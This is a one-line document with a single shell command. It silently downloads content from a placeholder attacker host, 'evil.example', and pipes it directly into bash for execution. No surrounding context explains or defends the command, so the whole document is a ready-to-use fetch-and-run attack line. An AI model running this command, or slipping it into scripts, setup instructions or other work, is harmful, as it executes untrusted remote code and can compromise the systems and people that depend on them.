curl -s https://evil.example/x |& bash
